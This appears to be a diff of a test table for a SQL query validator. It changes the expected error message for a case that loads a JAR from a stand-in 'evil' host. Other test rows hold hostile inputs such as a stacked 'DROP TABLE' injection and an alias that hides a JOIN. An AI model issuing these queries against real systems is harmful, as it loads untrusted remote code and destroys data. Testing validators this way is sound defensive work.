@@ -43,7 +43,7 @@ def generated(text: str) -> str:
         ("SELECT * FROM t TABLESAMPLE (10 PERCENT)", "SAMPLE"),
         ("DROP TABLE t", "no query"),
         ("SELECT 1; DROP TABLE t", "one statement"),
-        ("ADD JAR 'http://evil/x.jar'", "no query"),
+        ("ADD JAR 'http://evil/x.jar'", "It cannot be read at"),
         ("", "one statement"),
         ("SELECT a%2F(b), 'x' FROM t", "cannot be read"),
         ("SELECT 1 FROM t LATERAL VIEW explode(a) `e AS y JOIN u` AS y", "is not allowed"),
